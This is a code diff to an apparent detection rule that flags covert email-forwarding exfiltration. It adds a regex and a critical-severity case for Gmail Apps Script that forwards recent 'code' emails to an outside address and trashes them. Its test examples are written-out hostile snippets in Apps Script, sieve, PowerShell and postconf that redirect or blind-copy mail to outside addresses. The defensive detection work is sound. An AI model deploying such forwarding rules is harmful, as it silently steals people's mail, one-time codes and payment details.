@@ -64,6 +64,8 @@ const BY_COMMAND = worded(
     \b(?:new|set)-(?:inboxrule|mailbox|transportrule)\b[^]{0,240}?
     -(?:forward(?:to|asattachmentto|ingsmtpaddress)|redirectto|redirectmessageto|blindcopyto)
     [ :]{1,3}["']?(?:smtp:)?[\w.+-]{1,64}@[\w.-]{3,80}|
+    \bgmailapp\.search\s?\([^]{0,400}?\b(?:sendemail|forward)\s?\(\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']
+    [^]{0,200}?\b(?:movetotrash|markread|movetospam)\b|
     \balways_bcc\s?=\s?[\w.+-]{1,64}@[\w.-]{3,80}|
     \brecipients\.add\s?\(\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']\s?\)[^]{0,80}?\bolbcc\b|
     \.bcc\s?=\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']
@@ -96,6 +98,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```js\nGmailApp.search("newer_than:1d code").forEach((t) => {\n  t.getMessages().forEach((m) => GmailApp.sendEmail("desk@quarry-maps.io", m.getSubject(), m.getPlainBody()))\n  t.moveToTrash()\n})\n```\n',
       '```sieve\nif header :contains "subject" "IBAN" {\n  redirect :copy "in@letter-depot.net";\n}\n```\n',
       '```powershell\nNew-InboxRule -Mailbox $m -Name "." -SubjectContainsWords "invoice" `\n  -ForwardAsAttachmentTo "in@letter-depot.net" -Confirm:$false\n```\n',
       "```sh\npostconf -e 'always_bcc = copies@letter-depot.net'\n```\n",
@@ -119,7 +122,9 @@ export default defineRule({
         const found = pattern.exec(document.reading.text.slice(start, end))
         if (!found || !goesToSomebody(found[0])) continue
         const place = placeOf(start, found)
-        const dark = mannerAround(document, place.start, place.end) === 'concealed'
+        const dark =
+          found[0].startsWith('gmailapp') ||
+          mannerAround(document, place.start, place.end) === 'concealed'
         yield { ...place, firm: true, ...(dark && { severity: 'crit' as const }) }
       }
     const spans = document.observe(stretches)
